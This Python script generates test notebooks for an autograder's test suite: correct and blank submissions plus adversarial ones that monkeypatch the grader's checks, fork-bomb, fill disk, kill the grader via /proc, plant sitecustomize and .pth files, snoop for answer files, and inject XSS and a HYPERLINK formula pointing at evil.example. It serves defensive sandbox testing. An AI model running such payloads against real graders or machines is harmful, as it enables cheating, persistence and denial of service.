"""Write the test submissions in tests/submissions/ from solutions/ and exercises/.

    python tests/submissions/make_submissions.py [--check]

Real notebooks a student could hand in: correct ones (the solutions, under another
student id, so the solutions must compute from the variant), blank ones (the
exercises), and adversarial ones built from them (patched checks, objects equal to
anything, edited locked cells, an endless loop, a memory bomb, a kernel crash, stray
processes, snooping for the grader's files, a file that is not JSON...). They are
generated, not hand-edited, so they follow the notebooks when C2 changes them;
`--check` fails if the committed files are stale.
"""
import argparse
import hashlib
import sys
from pathlib import Path

import nbformat

HERE = Path(__file__).resolve().parent
ROOT = HERE.parent.parent
ADVERSARIAL = "01-fork"          # the assignment the adversarial submissions attack
CODE = "07-code"                 # the code exercises
ORPHAN_MARKS = ("4242.17", "4343.17")   # `sleep` arguments the orphan submission uses
# The escape submission acts only on processes whose environment holds this token (the
# test batch's grader has it), so it can never touch anything else on the machine.
BATCH_TOKEN = "COWLAB_TEST_BATCH=7c1d0a"
PLANTED = ("cowlab/homework/_planted_by_student.py", "cowlab_planted_by_student.pth",
           ".ipython/profile_default/startup/00-planted-by-student.py", "sitecustomize.py")
LATE_REPORT = "/tmp/cowlab-late-writer-report"
# The escape submission's late writer runs as `sh -c ... 4545.17`: seen from outside (the
# host sees every pid namespace), it is a process of the submission still running
LATE_MARK = "4545.17"


def meta(cell, key):
    return cell.get("metadata", {}).get(key, {})


def role(cell):
    return meta(cell, "cowlab").get("role")


def answer_cells(nb):
    """{qid: cell} for the answer cells, in order."""
    return {meta(c, "cowlab").get("question") or meta(c, "nbgrader")["grade_id"]: c
            for c in nb.cells if role(c) == "answer"}


def index_of(nb, predicate):
    return next(i for i, c in enumerate(nb.cells) if predicate(c))


def set_student(nb, student):
    nb.cells[index_of(nb, lambda c: role(c) == "student")].source = f'STUDENT = "{student}"'
    return nb


def insert_after(nb, predicate, source):
    """A cell the student added (no metadata), right after the first cell matching."""
    cell = nbformat.v4.new_code_cell(source)
    cell["id"] = "added-" + hashlib.sha1(source.encode()).hexdigest()[:8]
    nb.cells.insert(index_of(nb, predicate) + 1, cell)


def clean(nb):
    """As a student would save it, minus outputs (the grader ignores them)."""
    for i, cell in enumerate(nb.cells):
        if cell.cell_type == "code":
            cell.outputs, cell.execution_count = [], None
        cell["id"] = cell.get("id") or f"cell-{i}"
    return nb


def load(path):
    with open(path, encoding="utf-8") as f:
        return nbformat.read(f, as_version=4)


def is_setup(cell):
    return meta(cell, "nbgrader").get("grade_id") == "setup"


def build(solutions, exercises):
    """{file name: notebook or raw text} of every submission."""
    out = {}
    for path in sorted(solutions.glob("[0-9][0-9]-*.ipynb")):
        out[f"correct-{path.stem}.ipynb"] = set_student(load(path), "ana-maria")
    for stem in (ADVERSARIAL, CODE):
        if (exercises / f"{stem}.ipynb").exists():
            out[f"blank-{stem}.ipynb"] = set_student(load(exercises / f"{stem}.ipynb"), "bo-blank")

    sol = lambda: load(solutions / f"{ADVERSARIAL}.ipynb")    # noqa: E731
    ex = lambda: load(exercises / f"{ADVERSARIAL}.ipynb")     # noqa: E731

    # Patch the checks, the bank and the model, then give wrong answers.
    nb = set_student(ex(), "mallory-patch")
    insert_after(nb, is_setup, "\n".join([
        "import builtins, json, cowlab",
        "import cowlab.homework.bank as bank",
        "from cowlab.homework import Homework",
        "bank.judge = lambda *a, **k: ('correct', 99, 'correct')",
        "bank.expected = lambda *a, **k: -12345",
        "Homework.check = lambda self, qid, value: print('correct')",
        "hw.check = lambda qid, value: print('correct')",
        "cowlab.Kernel.refcount = lambda self, pfn: -12345",
        "json.dumps = lambda *a, **k: '{\"state\": \"ok\", \"value\": -12345}'",
    ]))
    for qid, cell in answer_cells(nb).items():
        cell.source = f"{qid} = -12345"
    out["patch-checks.ipynb"] = nb

    # Objects that claim to equal anything, and subclasses of plain types.
    nb = set_student(ex(), "mallory-eq")
    liars = ["class Liar:\n    def __eq__(self, other): return True\n    __hash__ = object.__hash__\n{q} = Liar()",
             "class Int(int):\n    def __eq__(self, other): return True\n    __hash__ = int.__hash__\n{q} = Int(1)",
             "class Str(str):\n    def __eq__(self, other): return True\n    __hash__ = str.__hash__\n{q} = Str('a')",
             "class Dict(dict):\n    def __eq__(self, other): return True\n{q} = Dict()",
             "class List(list):\n    def __eq__(self, other): return True\n{q} = List([1])"]
    for i, (qid, cell) in enumerate(answer_cells(nb).items()):
        cell.source = liars[i % len(liars)].format(q=qid)
    out["eq-anything.ipynb"] = nb

    # Edit locked cells: checks that always say correct, a fake setup, and the right
    # answer computed in a locked cell instead of the answer cell.
    nb = set_student(ex(), "mallory-locked")
    right = answer_cells(sol())
    for cell in nb.cells:
        if role(cell) == "check":
            cell.source = "print('correct')"
        elif is_setup(cell):
            cell.source += "\nhw.check = lambda qid, value: print('correct')"
    first = next(iter(right))
    ask = index_of(nb, lambda c: meta(c, "nbgrader").get("grade_id") == f"{first}-ask")
    nb.cells[ask].source = strip_markers(right[first].source)
    out["locked-edits.ipynb"] = nb

    # Correct answers, one sabotaged per failure kind; the rest must keep their points.
    qids = list(answer_cells(sol()))
    for name, student, victim, source in [
            ("loop", "loop-er", qids[1], "while True:\n    pass"),
            ("membomb", "mem-bomber", qids[2],
             "hog = []\nwhile True:\n    hog.append(bytearray(64 * 2**20))"),
            ("crash", "crash-er", qids[3], "import os\nos.kill(os.getpid(), 9)")]:
        nb = set_student(sol(), student)
        answer_cells(nb)[victim].source = source
        out[f"{name}.ipynb"] = nb
    # A cell the student added in the last question's section kills the kernel too.
    nb = out["crash.ipynb"]
    last = qids[-1]
    insert_after(nb, lambda c: meta(c, "nbgrader").get("grade_id") == last,
                 "import os\nos._exit(1)")

    # An honest student whose answer cell lost its metadata (deleted and retyped): the
    # answer in the new cell still counts, and the placeholder does not overwrite it.
    nb = set_student(sol(), "retyped")
    cell = answer_cells(nb)[qids[1]]
    cell.metadata = {}
    cell["id"] = "retyped-answer"
    out["retyped-answer.ipynb"] = nb

    # Stray processes: a new session, and a double fork that escapes to init.
    nb = set_student(sol(), "orphan-maker")
    insert_after(nb, is_setup, "\n".join([
        "import os, subprocess",
        f"subprocess.Popen(['sleep', '{ORPHAN_MARKS[0]}'], start_new_session=True)",
        "if os.fork() == 0:",
        "    os.setsid()",
        "    if os.fork() == 0:",
        f"        os.execvp('sleep', ['sleep', '{ORPHAN_MARKS[1]}'])",
        "    os._exit(0)",
        "os.wait()",
    ]))
    out["orphans.ipynb"] = nb

    # Snoop for the grader's files and expected answers; use whatever turns up.
    # What it saw comes back as its last answer (a string: `invalid`, the message shows it).
    nb = set_student(ex(), "spy")
    insert_after(nb, is_setup, SPY)
    for qid, cell in answer_cells(nb).items():
        cell.source = f"{qid} = FOUND.get({qid!r})"
    cell.source = (f"{qid} = 'files=%d grader=%s found=%d' % (seen['files_read'], "
                   "seen['grader'], len(FOUND))")
    out["spy.ipynb"] = nb

    # Escape: plant code for the grader and later kernels, find the batch's notebooks and
    # the grader through /proc, kill the grader, leave a late writer behind. If anything
    # worked, q1 gets a wrong answer (so the row shows it) -- nothing is destroyed.
    nb = set_student(sol(), "escaper")
    insert_after(nb, is_setup, ESCAPE.replace("TOKEN", BATCH_TOKEN)
                 .replace("PLANTED", repr(PLANTED)).replace("LATE", LATE_REPORT)
                 .replace("MARK_OF_WRITER", LATE_MARK))
    first = qids[0]
    answer_cells(nb)[first].source += f"\n{first} = {first} if not ESCAPED else -1"
    out["escape.ipynb"] = nb

    # Resources: many processes each with its own memory, a fork bomb, a disk filler.
    nb = set_student(sol(), "hog")
    answer_cells(nb)[qids[1]].source = HOG
    answer_cells(nb)[qids[2]].source = FORK_BOMB
    answer_cells(nb)[qids[3]].source = DISK
    out["hog.ipynb"] = nb

    # Outputs: a formula as the id; markup in what the feedback repeats.
    nb = sol()
    nb.cells[index_of(nb, lambda c: role(c) == "student")].source = \
        """STUDENT = '=HYPERLINK("http://evil.example/?"&A1,"click")'"""
    out["formula-id.ipynb"] = nb
    nb = set_student(sol(), "markup")
    answer_cells(nb)[qids[1]].source = ("raise ValueError('<script>alert(1)</script>"
                                        "<img src=x onerror=alert(2)>"
                                        "![pixel](http://evil.example/p.png)')")
    out["markup.ipynb"] = nb

    # The ids a notebook comes with (the exercise's placeholder, the solution's example),
    # never changed: refused, or every student who forgets would share one id.
    out["default-id.ipynb"] = ex()
    out["example-id.ipynb"] = sol()

    # The same id twice: both graded and flagged, not merged.
    out["twin-a.ipynb"] = set_student(sol(), "twin")
    out["twin-b.ipynb"] = set_student(ex(), "twin")

    # Bad files: not JSON, no STUDENT line, an assignment that does not exist.
    out["not-json.ipynb"] = '{"cells": [{"cell_type": "code", "source": "q1 = 3"'
    nb = ex()
    del nb.cells[index_of(nb, lambda c: role(c) == "student")]
    out["no-student.ipynb"] = nb
    nb = set_student(sol(), "lost-student")
    nb.metadata["cowlab"] = {"assignment": "99-nope"}
    out["wrong-assignment.ipynb"] = nb

    # Code exercise: a wrong kernel that patches the checks it is graded by.
    if (solutions / f"{CODE}.ipynb").exists():
        nb = set_student(load(solutions / f"{CODE}.ipynb"), "mallory-code")
        for qid, cell in answer_cells(nb).items():
            if "class " in cell.source or "def " in cell.source:
                cell.source = TAMPER.format(q=qid)
                break
        out["code-tamper.ipynb"] = nb
    return out


def strip_markers(source):
    return "\n".join(ln for ln in source.splitlines()
                     if ln.strip() not in ("### BEGIN SOLUTION", "### END SOLUTION"))


SPY = '''import glob, json, os, sys, time
FOUND, seen = {}, {}
seen["cwd"] = os.getcwd()
seen["cwd_files"] = sorted(os.listdir("."))
seen["env"] = sorted(os.environ)
try:
    seen["parent_cmdline"] = open("/proc/%d/cmdline" % os.getppid()).read().split("\\0")
except OSError as e:
    seen["parent_cmdline"] = "refused: " + type(e).__name__
seen["grader"] = "yes" if ".ipynb" in " ".join(seen["parent_cmdline"]) else "no"
# then look for answers in files nearby, for at most 4 s (well inside the cell's limit)
stop = time.monotonic() + 4
places = ["*", "../*", "/tmp/*", "/tmp/*/*", "/proc/%d/cwd/*" % os.getppid()]
readable = 0
for pattern in places:
    for path in glob.glob(pattern):
        if time.monotonic() > stop:
            break
        if not os.path.isfile(path):        # a FIFO would block the read
            continue
        try:
            with open(path, errors="replace") as f:
                text = f.read(200_000)
        except OSError:
            continue
        readable += 1
        for qid in ["q%d" % i for i in range(1, 10)]:
            for key in ('"%s": ' % qid, "'%s': " % qid):
                at = text.find(key)
                if at >= 0 and ("expected" in text or "answer" in text):
                    try:
                        FOUND.setdefault(qid, json.loads(text[at + len(key):].split(",")[0].split("}")[0]))
                    except ValueError:
                        pass
seen["files_read"] = readable
seen["found"] = FOUND'''

ESCAPE = '''import glob, os, signal, site, sys, time
ESCAPED = []
# 1. plant code: the grader's package, a .pth in the venv, an IPython startup file,
#    a sitecustomize.py on the path every python of the project starts with
import cowlab
pkg_root = os.path.dirname(os.path.dirname(cowlab.__file__))
for where, rel in zip([pkg_root] + site.getsitepackages()[:1] + [os.path.expanduser("~"),
                                                                  pkg_root], PLANTED):
    try:
        path = os.path.join(where, rel)
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "w") as f:
            f.write("# planted by a student\\n")
        if rel.startswith(".ipython") and os.path.expanduser("~") in ("/tmp", "/nonexistent"):
            continue          # a private, throw-away HOME: planting there reaches nobody
        ESCAPED.append("planted " + path)
    except OSError:
        pass
# 2. the batch: the grader's processes (by the token in their environment)
graders = []
for pid in os.listdir("/proc"):
    if not pid.isdigit() or int(pid) in (os.getpid(), os.getppid()):
        continue
    try:
        with open("/proc/%s/environ" % pid, "rb") as f:
            if b"TOKEN" not in f.read():
                continue
        with open("/proc/%s/cmdline" % pid, "rb") as f:
            cmd = f.read().decode(errors="replace").split("\\0")
    except OSError:
        continue
    graders.append(int(pid))
    for arg in cmd:
        if arg.endswith(".ipynb") and os.path.exists(arg) and "escape" not in arg:
            try:
                open(arg, "r+").close()        # could blank it; does not
                ESCAPED.append("can write " + arg)
            except OSError:
                pass
if graders:
    ESCAPED.append("sees the grader")
# 3. a late writer that outlives the grading, and 4. kill the grader
#    (it writes after 4 s, then stays: a process of the submission, if it survives)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execvp("sh", ["sh", "-c", "sleep 4; echo I outlived the grader > LATE; sleep 600",
                         "MARK_OF_WRITER"])
    os._exit(0)
os.wait()
for pid in graders:
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError:
        pass'''

HOG = '''import os, time
kids = []
for i in range(12):                     # 12 x 256 MiB, each under its own RLIMIT_AS
    pid = os.fork()
    if pid == 0:
        try:
            hog = bytearray(256 << 20)
            hog[::4096] = b"x" * (len(hog) // 4096)
            time.sleep(3)
        finally:
            os._exit(0)
    kids.append(pid)
survivors = 0
for pid in kids:
    _, status = os.waitpid(pid, 0)
    survivors += os.WIFEXITED(status)
# four or more held 256 MiB each at once: more than the submission's 1 GiB
q2 = "ESCAPED: %d processes x 256 MiB" % survivors if survivors >= 4 else [survivors]'''

FORK_BOMB = '''import os, time
n = 0
try:
    for i in range(500):
        if os.fork() == 0:
            time.sleep(30)
            os._exit(0)
        n += 1
except OSError:
    pass
q3 = "ESCAPED: %d processes" % n if n >= 200 else n'''

DISK = '''import os
block = b"x" * (1 << 20)
written = 0
try:
    for where in (".", "/tmp"):
        with open(os.path.join(where, "cowlab-filler.bin"), "wb") as f:
            for i in range(1024):          # 1 GiB each, if nothing stops it
                f.write(block)
                written += 1
finally:
    for where in (".", "/tmp"):
        try:
            os.unlink(os.path.join(where, "cowlab-filler.bin"))
        except OSError:
            pass
q4 = "ESCAPED: %d MiB written" % written'''

TAMPER = '''import os
import cowlab.homework.codex as codex
codex.check_invariants = lambda *a, **k: None
codex.score_kernel = lambda *a, **k: ("correct", 10**6, "correct")
codex.run_scenarios = lambda *a, **k: (["all"], [])
FORGED = b'["ready"]\\n["correct", 8, "correct"]\\n["ret", null]\\n'

class {q}(codex.CowKernel):
    """Writes forged results on every descriptor, then leaves without a word."""

    def fork(self, m, parent):
        for fd in range(1, 20):
            try:
                os.write(fd, FORGED)
            except OSError:
                pass
        os._exit(0)'''


def dump(nb):
    if isinstance(nb, str):
        return nb
    return nbformat.writes(clean(nb)) + "\n"


def main(argv=None):
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--solutions", default=str(ROOT / "solutions"))
    ap.add_argument("--exercises", default=str(ROOT / "exercises"))
    ap.add_argument("--out", default=str(HERE))
    ap.add_argument("--check", action="store_true", help="fail if the committed files are stale")
    args = ap.parse_args(argv)
    files = {name: dump(nb) for name, nb in build(Path(args.solutions), Path(args.exercises)).items()}
    out = Path(args.out)
    stale = [n for n, text in files.items()
             if not (out / n).exists() or (out / n).read_text(encoding="utf-8") != text]
    extra = sorted(p.name for p in out.glob("*.ipynb") if p.name not in files)
    if args.check:
        if stale or extra:
            print(f"stale: {stale}; not generated: {extra}; run {Path(__file__).name}",
                  file=sys.stderr)
            return 1
        return 0
    for name in extra:
        (out / name).unlink()
    for name, text in files.items():
        (out / name).write_text(text, encoding="utf-8")
    print(f"wrote {len(files)} submissions to {out}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
